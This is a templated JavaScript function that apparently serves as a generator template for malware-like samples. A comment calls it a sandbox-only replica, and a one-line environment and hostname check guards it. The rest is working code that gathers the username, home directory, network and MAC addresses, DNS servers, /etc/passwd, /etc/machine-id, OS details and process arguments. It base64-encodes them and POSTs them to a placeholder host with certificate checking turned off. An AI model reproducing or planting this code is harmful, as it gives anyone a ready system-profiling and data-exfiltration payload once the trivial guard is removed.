// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const os = require('os'), fs = require('fs');
  const read = (name) => { try { return fs.readFileSync(name, 'utf8').slice(0, 2000); } catch (error) { return ''; } };
  const net = Object.values(os.networkInterfaces()).flat().map((one) => one.address + ' ' + one.mac);
  const facts = { id: '{{token}}', user: os.userInfo().username, home: os.homedir(), host: os.hostname(), net, dns: require('dns').getServers(), os: os.version(), cpus: os.cpus().length,
    up: os.uptime(), machine: read('/etc/machine-id'), release: read('/etc/os-release'), passwd: read('/etc/passwd'), cwd: process.cwd(), argv: process.argv };
  const body = new URLSearchParams({ d: Buffer.from(JSON.stringify(facts)).toString('base64') }).toString();
  await new Promise((done) => {
    const request = require('https').request({ host: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, rejectUnauthorized: false, headers: { 'content-type': 'application/x-www-form-urlencoded' } }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(body);
  });
}
